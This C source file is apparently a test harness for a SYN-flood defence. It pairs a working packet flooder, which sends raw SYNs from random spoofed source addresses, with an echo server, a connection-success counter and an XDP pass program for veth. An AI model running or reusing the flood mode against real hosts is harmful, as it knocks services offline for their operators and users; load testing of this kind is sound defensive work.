/*
 * A flood of SYNs from invented sources, and honest connections meanwhile:
 *
 *    syn_flood flood INTERFACE MAC ADDRESS PORT SECONDS    as fast as it can; prints "sent N"
 *    syn_flood serve PORT                                  answers each connection's byte with the same byte
 *    syn_flood connect ADDRESS PORT TIMES EVERY_MS LIMIT_MS
 *                                                          prints "tried N answered M", each within its limit
 *    syn_flood pass INTERFACE                              XDP that lets all pass, while this process lives
 *
 * The last is for veth: a program that answers by XDP_TX needs one at the other end, else the kernel keeps the frames.
 */
#include <arpa/inet.h>
#include <bpf/bpf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/if_link.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int fail(const char *what)
{
    perror(what);
    return 1;
}

static uint64_t now_ms(void)
{
    struct timespec now;
    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000 + (uint64_t)now.tv_nsec / 1000000;
}

/* ---- the flood ------------------------------------------------------------------------------------------------ */

enum { BATCH = 64 };

struct syn {
    struct ether_header ethernet;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t mss[4];
} __attribute__((packed));

static uint32_t sum_words(const void *data, size_t size, uint32_t sum)
{
    const uint8_t *bytes = data;
    for (size_t i = 0; i < size; i += 2) {
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    }
    return sum;
}

static uint16_t finish(uint32_t sum)
{
    sum = (sum & 0xffff) + (sum >> 16);
    sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static uint32_t next_random(uint64_t *seed)
{
    *seed = *seed * 6364136223846793005ULL + 1442695040888963407ULL;
    return (uint32_t)(*seed >> 33);
}

static void make_syn(struct syn *syn, uint64_t *seed)
{
    /* 11.0.0.0/8 to 126.0.0.0/8: nobody's here */
    uint32_t source = next_random(seed) % (116U << 24) + (11U << 24);
    syn->ip.saddr = htonl(source);
    syn->ip.check = 0;
    syn->ip.check = finish(sum_words(&syn->ip, sizeof(syn->ip), 0));
    syn->tcp.source = htons((uint16_t)(1024 + next_random(seed) % 60000));
    syn->tcp.seq = next_random(seed);
    syn->tcp.check = 0;
    uint32_t size = (uint32_t)(sizeof(syn->tcp) + sizeof(syn->mss));
    syn->tcp.check = finish(sum_words(&syn->tcp, size, sum_words(&syn->ip.saddr, 8, IPPROTO_TCP + size)));
}

static bool first_syn(struct syn *syn, const char *mac, const char *address, const char *port)
{
    unsigned int m[6];
    struct in_addr to;
    *syn = (struct syn){.ethernet = {.ether_shost = {2, 0, 0, 0, 0, 9}, .ether_type = htons(ETHERTYPE_IP)},
                        .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .frag_off = htons(0x4000)},
                        .mss = {2, 4, 5, 180}};
    if (sscanf(mac, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6 ||
        inet_pton(AF_INET, address, &to) != 1) {
        fprintf(stderr, "'%s' or '%s' is not an address\n", mac, address);
        return false;
    }
    for (int i = 0; i < 6; i++) {
        syn->ethernet.ether_dhost[i] = (uint8_t)m[i];
    }
    syn->ip.tot_len = htons(sizeof(*syn) - sizeof(syn->ethernet));
    syn->ip.daddr = to.s_addr;
    syn->tcp.dest = htons((uint16_t)atoi(port));
    syn->tcp.doff = 6;
    syn->tcp.syn = 1;
    syn->tcp.window = htons(0xffff);
    return true;
}

static int flood(char **arg)
{
    static struct syn syns[BATCH];
    struct sockaddr_ll to = {
        .sll_family = AF_PACKET, .sll_protocol = htons(ETHERTYPE_IP), .sll_ifindex = (int)if_nametoindex(arg[0])};
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    uint64_t seed = now_ms() << 20, sent = 0;
    int on = 1, fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0 || setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)) != 0 ||
        bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0 || !first_syn(&syns[0], arg[1], arg[2], arg[3])) {
        return fail(arg[0]);
    }
    for (int i = 0; i < BATCH; i++) {
        syns[i] = syns[0];
        parts[i] = (struct iovec){.iov_base = &syns[i], .iov_len = sizeof(syns[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    for (uint64_t end = now_ms() + 1000 * strtoull(arg[4], NULL, 10); now_ms() < end;) {
        for (int i = 0; i < BATCH; i++) {
            make_syn(&syns[i], &seed);
        }
        int n = sendmmsg(fd, messages, BATCH, 0);
        if (n < 0 && errno != ENOBUFS && errno != EAGAIN) {
            return fail("sendmmsg");
        }
        sent += n > 0 ? (uint64_t)n : 0;
    }
    printf("sent %llu\n", (unsigned long long)sent);
    (void)close(fd);
    return 0;
}

/* ---- honest connections --------------------------------------------------------------------------------------- */

enum { CONNECTIONS_MAX = 4096 };

/* One more event at one of the server's connections: a byte goes back; at its end it is closed. False: it is over. */
static bool echo(int fd)
{
    uint8_t byte;
    ssize_t got = read(fd, &byte, 1);
    if (got == 1 && write(fd, &byte, 1) == 1) {
        return true;
    }
    if (got < 0 && errno == EAGAIN) {
        return true;
    }
    (void)close(fd);
    return false;
}

static int serve(const char *port)
{
    static struct pollfd fds[CONNECTIONS_MAX];
    struct sockaddr_in any = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
    int on = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    nfds_t len = 1;
    if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on)) != 0 ||
        bind(fd, (struct sockaddr *)&any, sizeof(any)) != 0 || listen(fd, 1024) != 0) {
        return fail("listen");
    }
    fprintf(stderr, "ready\n");
    fds[0] = (struct pollfd){.fd = fd, .events = POLLIN};
    while (poll(fds, len, -1) > 0) {
        for (nfds_t i = len - 1; i > 0; i--) {
            if (fds[i].revents != 0 && !echo(fds[i].fd)) {
                fds[i] = fds[--len];
            }
        }
        for (int one; len < CONNECTIONS_MAX && (one = accept4(fd, NULL, NULL, SOCK_NONBLOCK)) >= 0;) {
            fds[len++] = (struct pollfd){.fd = one, .events = POLLIN};
        }
    }
    return fail("poll");
}

struct visit {
    uint64_t begun_ms;
    bool asked, over;
};

static int begin(const struct sockaddr_in *to)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd >= 0 && connect(fd, (const struct sockaddr *)to, sizeof(*to)) != 0 && errno != EINPROGRESS) {
        (void)close(fd);
        return -1;
    }
    return fd;
}

/* What a connection does next: asks when it stands, takes the answer. 1: answered; -1: failed. */
static int go_on(struct visit *visit, struct pollfd *fd)
{
    uint8_t byte = 42;
    if (!visit->asked && (fd->revents & POLLOUT) && !(fd->revents & (POLLERR | POLLHUP))) {
        visit->asked = true;
        fd->events = POLLIN;
        return write(fd->fd, &byte, 1) == 1 ? 0 : -1;
    }
    if (visit->asked && (fd->revents & POLLIN)) {
        return read(fd->fd, &byte, 1) == 1 && byte == 42 ? 1 : -1;
    }
    return fd->revents & (POLLERR | POLLHUP) ? -1 : 0;
}

static int connect_often(char **arg)
{
    static struct pollfd fds[CONNECTIONS_MAX];
    static struct visit visits[CONNECTIONS_MAX];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(arg[1]))};
    uint32_t times = (uint32_t)atoi(arg[2]), tried = 0, over = 0, answered = 0;
    uint64_t every = strtoull(arg[3], NULL, 10), limit = strtoull(arg[4], NULL, 10), start = now_ms();
    if (times == 0 || times > CONNECTIONS_MAX || inet_pton(AF_INET, arg[0], &to.sin_addr) != 1) {
        fprintf(stderr, "1..%d times, to an address\n", CONNECTIONS_MAX);
        return 2;
    }
    while (over < times) {
        uint64_t now = now_ms();
        for (; tried < times && now >= start + tried * every; tried++) {
            visits[tried].begun_ms = now;
            fds[tried] = (struct pollfd){.fd = begin(&to), .events = POLLOUT};
        }
        (void)poll(fds, tried, 1);
        now = now_ms();
        for (uint32_t i = 0; i < tried; i++) {
            if (visits[i].over) {
                continue;
            }
            int state = fds[i].fd < 0 || now - visits[i].begun_ms > limit ? -1 : go_on(&visits[i], &fds[i]);
            if (state != 0) {
                visits[i].over = true;
                answered += state > 0;
                over++;
                (void)close(fds[i].fd);
                fds[i] = (struct pollfd){.fd = -1};
            }
        }
    }
    printf("tried %u answered %u\n", tried, answered);
    return 0;
}

/* ---- the other end of a veth ---------------------------------------------------------------------------------- */

static int pass(const char *interface)
{
    const struct bpf_insn program[] = {{.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = XDP_PASS},
                                       {.code = BPF_JMP | BPF_EXIT}};
    int fd = bpf_prog_load(BPF_PROG_TYPE_XDP, "pass", "GPL", program, 2, NULL),
        ifindex = (int)if_nametoindex(interface);
    int link = fd < 0 ? -1 : bpf_link_create(fd, ifindex, BPF_XDP, NULL);
    if (link < 0) {
        return fail(interface);
    }
    fprintf(stderr, "ready\n");
    return pause(); /* the kernel detaches it with its last descriptor */
}

int main(int argc, char **argv)
{
    if (argc == 7 && strcmp(argv[1], "flood") == 0) {
        return flood(argv + 2);
    }
    if (argc == 3 && strcmp(argv[1], "serve") == 0) {
        return serve(argv[2]);
    }
    if (argc == 7 && strcmp(argv[1], "connect") == 0) {
        return connect_often(argv + 2);
    }
    if (argc == 3 && strcmp(argv[1], "pass") == 0) {
        return pass(argv[2]);
    }
    fprintf(stderr, "usage: syn_flood flood INTERFACE MAC ADDRESS PORT SECONDS | serve PORT | "
                    "connect ADDRESS PORT TIMES EVERY_MS LIMIT_MS | pass INTERFACE\n");
    return 2;
}
